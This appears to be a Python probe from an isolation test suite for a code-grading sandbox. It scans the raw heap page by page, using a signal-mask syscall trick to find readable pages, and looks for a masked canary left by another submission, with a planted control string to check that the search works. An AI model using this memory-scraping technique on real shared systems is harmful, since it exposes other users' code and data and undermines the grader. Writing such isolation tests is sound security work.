"""Read the raw heap for another submission's source: it was never in the zygote's memory, which is where a
child's memory comes from."""

import mmap
import re
import sys

import numpy as np

UNCONFINED = "the same: every submission has a process of its own in every tier"
MACHINE = "x86_64"

ctypes = sys.modules["ctypes"]
libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_void_p
MASK = 0x55  # what is looked for is only ever held masked, or the search would find itself
PLANTED = ("planted " * 100 + "by this script").encode()  # large enough for the raw heap


def readable(page):
    # With an invalid `how`, rt_sigprocmask only copies the mask in: EFAULT where nothing is mapped.
    RT_SIGPROCMASK, NO_SUCH_HOW, EFAULT = 14, 77, 14
    libc.syscall(RT_SIGPROCMASK, NO_SUCH_HOW, ctypes.c_void_p(page), None, 8)
    return ctypes.get_errno() != EFAULT


def attack(k):
    scratch = mmap.mmap(-1, 4096)  # outside of the heap
    unmasked = np.frombuffer(scratch, np.uint8)
    wanted = re.compile(re.escape(bytes.fromhex(k["masked_canary"])))
    control = re.compile(re.escape(bytes(letter ^ MASK for letter in b"by this script")))
    found = controls = 0
    page = (libc.sbrk(0) - 1) & ~4095
    lowest = page - (64 << 20)
    while page > lowest and readable(page):
        memory = np.frombuffer((ctypes.c_char * 4096).from_address(page), np.uint8)
        np.bitwise_xor(memory, MASK, out=unmasked)
        found += len(wanted.findall(scratch))
        controls += len(control.findall(scratch))
        page -= 4096
    if not controls:
        return "SUCCESS only in not finding its own text: the search is blind"
    return f"SUCCESS {found}" if found else "nothing"
